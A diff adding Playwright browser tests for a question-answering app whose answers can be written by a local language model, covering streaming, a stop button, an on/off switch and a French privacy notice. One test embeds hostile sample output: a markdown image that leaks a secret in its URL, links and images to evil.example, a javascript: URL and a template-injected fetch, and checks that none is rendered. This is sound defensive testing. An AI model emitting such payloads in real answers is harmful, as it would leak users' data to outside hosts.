@@ -1,14 +1,16 @@
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 from playwright.sync_api import Browser, expect
 
 from tests.helpers.browser import GRADIO_WARNING, Visitor, served_window, visiting
-from tests.ui.fake_bot import FakeBot
+from tests.ui.fake_bot import LOCAL_MODEL, REMOTE_MODEL, STOPPED, WRITTEN, FakeBot
 
 pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings(GRADIO_WARNING)]
 
@@ -180,6 +182,142 @@ def test_the_window_can_be_used_by_keyboard_alone(visitor: Visitor) -> None:
             break
     page.keyboard.press("Enter")
     expect(page.locator(".panel mark strong")).to_have_text("1934")
+
+
+@pytest.fixture
+def writer(bot: FakeBot) -> FakeBot:
+    bot.language_model, bot.writes_by_default = LOCAL_MODEL, True
+    return bot
+
+
+def begin(visitor: Visitor, question: str) -> None:
+    visitor.page.locator("#question textarea").fill(question)
+    visitor.page.locator("#question textarea").press("Enter")
+    expect(visitor.page.locator("#live .text")).to_contain_text("12 May 1931")
+
+
+def test_a_written_answer_grows_and_marks_what_is_not_supported(writer: FakeBot, visitor: Visitor) -> None:
+    page = visitor.page
+    writer.flowing.clear()
+    begin(visitor, "When was the bridge opened?")
+    expect(page.locator("#live .waiting")).to_contain_text("llama3.2 is writing")
+    expect(page.locator("#live :is(a, img, .text button)")).to_have_count(0)
+    writer.flowing.set()
+    answer = page.locator("#conversation .turn .answer")
+    expect(answer.locator(".byline")).to_contain_text("Written by llama3.2")
+    expect(answer.locator(".unsupported")).to_have_text("It had brought in 40,000 francs a year.")
+    expect(answer.get_by_role("note")).to_have_text("not supported")
+    expect(answer.locator(".doubts")).to_contain_text("“40,000 francs” does not stand in the passage cited.")
+    expect(answer.locator(".conflict .kind")).to_have_text("Dates differ")
+    answer.get_by_role("button", name="Source 3, The bridge of Orne").click()
+    expect(page.locator(".panel mark strong")).to_have_text("1934")
+
+
+def test_the_writing_is_stopped_by_its_button(writer: FakeBot, visitor: Visitor) -> None:
+    page = visitor.page
+    writer.flowing.clear()
+    begin(visitor, "When was the bridge opened?")
+    page.get_by_role("button", name="Stop").click()
+    answer = page.locator("#conversation .turn .answer")
+    expect(answer.get_by_role("status")).to_have_text(STOPPED)
+    expect(answer.locator(".text")).to_contain_text("12 May 1931")
+    expect(answer.locator(".text")).not_to_contain_text("40,000")
+
+
+def test_the_stop_button_can_be_pressed_by_keyboard_while_the_text_grows(
+    writer: FakeBot, visitor: Visitor
+) -> None:
+    page = visitor.page
+    writer.found.clear()
+    page.locator("#question textarea").fill("When was the bridge opened?")
+    page.locator("#question textarea").press("Enter")
+    stop = page.get_by_role("button", name="Stop")
+    stop.focus()
+    writer.flowing.clear()
+    writer.found.set()
+    expect(page.locator("#live .text")).to_contain_text("12 May 1931")
+    expect(stop).to_be_focused()
+    page.keyboard.press("Enter")
+    expect(page.locator("#conversation .turn .notice")).to_have_text(STOPPED)
+    expect(page.locator("#question textarea")).to_be_focused()
+
+
+def test_a_new_conversation_or_a_closed_page_stops_the_writing(
+    chromium: Browser, url: str, writer: FakeBot
+) -> None:
+    writer.flowing.clear()
+    with visiting(chromium, url) as visitor:
+        begin(visitor, "When was the bridge opened?")
+        visitor.page.get_by_role("button", name="New conversation").click()
+        expect(visitor.page.locator(".welcome")).to_be_visible()
+        expect(visitor.page.locator("#live .turn")).to_have_count(0)
+        assert writer.drafts[0].stopped()
+        begin(visitor, "When was the bridge opened?")
+    with visiting(chromium, url) as visitor:
+        visitor.page.get_by_role("switch").click()
+        expect(visitor.page.get_by_role("switch")).not_to_be_checked()
+        visitor.ask("When was the toll lifted?")
+        assert wait_for(writer.drafts[1].stopped)
+
+
+def wait_for(happened: Callable[[], bool]) -> bool:
+    """Wait until something has happened, half a minute at most."""
+    late = time.monotonic() + 30
+    while not happened() and time.monotonic() < late:
+        time.sleep(0.05)
+    return happened()
+
+
+def test_the_switch_turns_the_writing_off_and_on(writer: FakeBot, visitor: Visitor) -> None:
+    page = visitor.page
+    switch = page.get_by_role("switch", name="Answers written by llama3.2")
+    expect(switch).to_be_checked()
+    expect(page.locator("#writer")).to_contain_text("On this machine (localhost:11434).")
+    switch.press("Space")
+    expect(switch).not_to_be_checked()
+    expect(switch).to_be_focused()
+    expect(page.locator("#writer")).to_contain_text("Off: answers are made of quotes alone.")
+    visitor.ask("When was the toll lifted?")
+    expect(page.locator(".byline")).to_have_count(0)
+    switch.press("Space")
+    expect(switch).to_be_checked()
+    visitor.ask("When was the bridge opened?")
+    expect(page.locator(".byline")).to_have_count(1)
+    assert writer.asked_writer == [False, True]
+
+
+def test_without_a_language_model_there_is_no_switch(visitor: Visitor) -> None:
+    expect(visitor.page.get_by_role("switch")).to_have_count(0)
+
+
+def test_nothing_a_language_model_writes_is_fetched_or_followed(writer: FakeBot, visitor: Visitor) -> None:
+    hostile = (
+        "![x](http://127.0.0.1:1/leak?q=secret) [click](http://evil.example/) "
+        "<img src=http://evil.example/x> <a href='javascript:alert(1)'>y</a> http://evil.example/ "
+        "${fetch('http://evil.example')} {{value}} [1]"
+    )
+    writer.script = f"It was 12 May 1931. {hostile}\n\n" + "And so it went on. " * 8
+    writer.written = replace(WRITTEN, text=f"{hostile}\n\n~~{hostile}~~ [?1]", note=hostile)
+    page = visitor.page
+    writer.flowing.clear()
+    begin(visitor, "When was the bridge opened?")
+    expect(page.locator("#live .text")).to_contain_text(
+        "![x](http://127.0.0.1:1/leak?q=secret) [click](http:"
+    )
+    expect(page.locator("#live").locator("a, img")).to_have_count(0)
+    writer.flowing.set()
+    expect(page.locator("#conversation .text")).to_contain_text("<img src=http://evil.example/x> <a href=")
+    expect(page.locator("#conversation").locator("a, img")).to_have_count(0)
+
+
+def test_the_switch_says_in_french_what_leaves_the_machine(
+    chromium: Browser, url: str, writer: FakeBot
+) -> None:
+    writer.language_model = REMOTE_MODEL
+    with visiting(chromium, url, locale="fr-FR", width=390, height=844) as visitor:
+        said = "Vos questions et les passages trouvés sont envoyés à api.example.org."
+        expect(visitor.page.locator(".outside")).to_have_text(said)
+        assert visitor.page.evaluate("document.documentElement.scrollWidth") <= 390
 
 
 def test_the_words_follow_the_browsers_language(chromium: Browser, url: str) -> None:
